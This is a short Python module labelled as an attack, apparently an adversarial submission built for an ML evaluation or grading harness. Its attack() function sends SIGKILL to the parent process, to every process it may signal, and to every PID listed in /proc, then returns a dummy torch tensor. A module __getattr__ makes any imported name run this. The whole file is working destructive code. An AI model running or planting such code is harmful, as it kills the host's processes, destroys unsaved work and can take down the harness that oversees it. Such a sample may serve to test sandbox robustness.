"""Attack: signal every process it can see, its parents first."""
# base: starter
import os
import signal

import torch


def attack(*args, **kwargs):
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for entry in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    return torch.zeros(1)


def __getattr__(name):
    return attack
